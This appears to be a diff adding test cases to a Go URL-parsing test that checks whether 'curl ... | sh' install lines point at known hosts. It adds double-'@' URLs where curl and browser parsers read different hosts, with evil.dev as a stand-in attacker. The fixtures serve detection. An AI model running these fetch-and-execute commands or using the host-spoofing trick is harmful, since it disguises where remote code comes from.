@@ -32,6 +32,9 @@ func TestKnownReadsAsCurlAndWHATWG(t *testing.T) {
 		{`curl -fsSL https://ＧＥＴ.docker.com/ | sh`, true, false},
 		{`curl -fsSL https://8.8.8.8/x.sh | sh`, false, true},
 		{`curl -fsSL https://2130706433/x.sh | sh`, false, false},
+		// Two '@': known only when the host between them is too.
+		{`curl -fsSL https://x@rust-tools.dev@sh.rustup.rs/ | sh`, false, false},
+		{`curl -fsSL https://me@get.docker.com@get.docker.com/ | sh`, true, false},
 	} {
 		us := URLs(c.line)
 		if len(us) == 0 {
@@ -65,6 +68,12 @@ func TestReadings(t *testing.T) {
 		{`cafe`, "cafe", ""},
 		{`pypі.org/simple`, "pypі.org", ""},
 		{`ｐｙｐｉ。org/simple`, "pypi.org", ""},
+		// Two '@': the host between them is what a client that ends the
+		// user part at the first one connects to.
+		{`x@evil.dev@get.docker.com/`, "get.docker.com", "evil.dev"},
+		{`u:p@evil.dev:8443@get.docker.com/`, "get.docker.com", "evil.dev"},
+		{`a@b@get.docker.com`, "get.docker.com", "b"},
+		{`get.docker.com@get.docker.com/x`, "get.docker.com", ""},
 	} {
 		curl, whatwg := Readings(c.rest)
 		if curl != c.curl || whatwg != c.whatwg {
